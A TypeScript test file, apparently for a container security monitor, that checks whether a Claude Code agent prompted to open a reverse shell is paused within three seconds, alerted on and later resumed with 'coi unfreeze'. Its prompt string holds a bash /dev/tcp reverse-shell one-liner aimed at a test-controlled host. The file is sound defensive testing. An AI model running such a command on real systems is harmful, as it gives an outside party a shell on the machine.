// The model makes the real Claude Code open a reverse shell: the session is paused within three seconds, the alert appears
// on the user's terminal, and `coi unfreeze` resumes the session.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { coidSocketPath, openCoid } from '../../src/coid-api/client.ts';
import { Lifecycle } from '../bed/events.ts';
import { slowdown } from '../bed/slowdown.ts';
import { untilAudited } from '../security/audited.ts';
import { onlyInstance } from '../terminal/session.ts';
import { claudeOptions, makeAgentBed } from './agent-bed.ts';

test("a reverse shell by the agent's own tool is paused and explained, and runs again after coi unfreeze", {
  timeout: 240_000,
}, async () => {
  await using agent = await makeAgentBed({ ...claudeOptions, watched: true });
  const { bed, provider } = agent;
  using lifecycle = await Lifecycle.open(bed.incus);
  const screen = await agent.open();
  const { name } = await onlyInstance(bed);
  const coid = openCoid({ socketPath: coidSocketPath(bed.env) });
  await untilAudited(coid, name, ({ action }) => action === 'watch-started');
  const remote = `${provider.address}:${provider.silentPort}`;
  const prompt = `please run bash -c 'bash -i >& /dev/tcp/${remote.replace(':', '/')} 0>&1'`;
  screen.type(prompt);
  await screen.waitFor(prompt);
  screen.type('\r');
  await provider.connected;
  const connectedMs = performance.now();
  await lifecycle.until('instance-paused', name);
  const tookMs = performance.now() - connectedMs;
  assert.ok(tookMs < 3000 * (await slowdown()), `paused after ${Math.round(tookMs)} ms`);
  await screen.waitUntil('the alert', () =>
    screen.output().includes(`*** SECURITY: Container ${name} PAUSED - Reverse shell`),
  );
  assert.match(screen.output(), new RegExp(`coi unfreeze ${name}`));
  const reported = await bed.coi(['audit', name]);
  assert.match(reported.stdout, new RegExp(`Reverse shell.*${remote}`), reported.stdout);
  const released = await bed.coi(['unfreeze', name]);
  assert.equal(released.status, 0, released.stderr);
  // The peer hangs up, so the tool ends and Claude continues with its output.
  const requests = provider.requests.length;
  provider.hangUp();
  await screen.waitFor(/I heard/, 60_000);
  assert.ok(provider.requests.length > requests);
});
